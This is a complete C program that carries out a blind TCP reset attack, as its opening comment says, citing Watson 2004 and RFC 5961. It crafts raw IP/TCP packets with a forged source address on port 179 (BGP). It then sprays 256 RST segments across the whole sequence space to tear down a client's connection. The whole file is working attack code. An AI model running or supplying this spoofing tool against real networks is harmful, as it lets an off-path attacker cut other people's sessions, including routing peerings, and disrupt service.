/* Blind reset: an attacker off the path, who knows the four-tuple and not the sequence numbers, tries one RST for each
   window that the sequence space has room for (Watson 2004, RFC 5961 §1.2). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define CLIENT "10.0.1.10"
#define CPORT 40000
#define SERVER "10.0.2.80"
#define SPORT 179
#define WINDOW (16 << 20) /* what the victim takes at once, octets */
#define RST 4

/* Writes a number into octets, the highest first. */
void put(unsigned char *to, unsigned int n, int octets) {
  while (octets-- > 0)
    *to++ = n >> 8 * octets;
}

/* Adds octets to a sum of ones' complement (RFC 1071). */
unsigned int add(unsigned int sum, const unsigned char *from, int n) {
  int i;

  for (i = 0; i + 1 < n; i += 2)
    sum += from[i] << 8 | from[i + 1];
  return n % 2 ? sum + (from[n - 1] << 8) : sum;
}

/* A segment of TCP under any name: from and to as their octets lie in a datagram. */
void segment(int s, const char *from, int sport, const char *to, int dport, unsigned int seq, unsigned int ack, int flags,
             const char *text) {
  struct sockaddr_in where = {.sin_family = AF_INET};
  unsigned char d[1500] = {0};
  int len = 20 + strlen(text);
  unsigned int sum;

  d[0] = 0x45;
  put(d + 2, 20 + len, 2);
  d[8] = 64;
  d[9] = IPPROTO_TCP;
  inet_pton(AF_INET, from, d + 12);
  inet_pton(AF_INET, to, d + 16);
  put(d + 20, sport, 2);
  put(d + 22, dport, 2);
  put(d + 24, seq, 4);
  put(d + 28, ack, 4);
  d[32] = 5 << 4;
  d[33] = flags;
  put(d + 34, 8192, 2);
  memcpy(d + 40, text, strlen(text));
  sum = add(IPPROTO_TCP + len, d + 12, 8 + len);
  while (sum >> 16)
    sum = (sum & 0xffff) + (sum >> 16);
  put(d + 36, ~sum & 0xffff, 2);
  inet_pton(AF_INET, to, &where.sin_addr);
  if (sendto(s, d, 20 + len, 0, (struct sockaddr *)&where, sizeof where) < 0)
    perror("sendto");
}

int main(void) {
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), i;
  unsigned int seq = 0;

  for (i = 0; i < 256; i++) {
    segment(s, SERVER, SPORT, CLIENT, CPORT, seq, 0, RST, "");
    seq += WINDOW;
    usleep(1000);
  }
  printf("%d RSTs\n", i);
  return 0;
}
